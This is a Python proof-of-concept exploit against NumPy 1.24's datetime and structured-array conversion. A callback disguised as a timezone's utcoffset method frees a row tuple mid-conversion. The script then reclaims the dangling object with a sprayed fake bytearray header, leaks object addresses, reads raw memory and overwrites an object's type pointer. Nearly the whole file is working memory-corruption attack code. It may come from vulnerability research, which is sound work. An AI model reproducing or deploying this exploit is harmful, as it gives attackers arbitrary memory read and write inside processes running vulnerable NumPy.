# source: numpy 1.24 datetime.c convert_pydatetime_to_datetimestruct (duck-typed year..microsecond, tzinfo; PyObject_CallMethod(tzinfo, "utcoffset", "O", obj)) + arraytypes.c.src VOID_setitem (fields from PyTuple_GET_ITEM of a borrowed row tuple); typing.NamedTuple("Z", [("utcoffset", object)]) functional form makes a field utcoffset
# family: structured-row fill; tzinfo stand-in = typing.NamedTuple functional form (the class form is refused, this one is not)
# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
import argparse
import datetime
import numpy as np

rows = []


def shift(when):
    if rows:
        rows.clear()
    return datetime.timedelta(0)


import typing
Z = typing.NamedTuple("Z", [("utcoffset", object)])
zone = Z(shift)
stamp = argparse.Namespace(year=2020, month=1, day=1, hour=0, minute=0, second=0, microsecond=0, tzinfo=zone)


class Box:
    pass


class Other:
    pass


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


def reclaim(res):
    fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
    spray = []
    for k in range(8):
        b = bytearray(215)
        b[16:16 + len(fake)] = fake
        spray.append(b)
    print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
    bx = Box()
    ot = Other()
    wb, wo = where(bx), where(ot)
    print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
    res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
    print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
    return spray


rows.append((stamp, 0, 0, 0, 0, 0, 0, frozenset([2])))
fields = [("t", "M8[us]")] + [("pad%d" % k, "O") for k in range(6)] + [("tag", "O")]
table = np.array(rows, dtype=fields)
res = table[0]["tag"]
keep = reclaim(res)
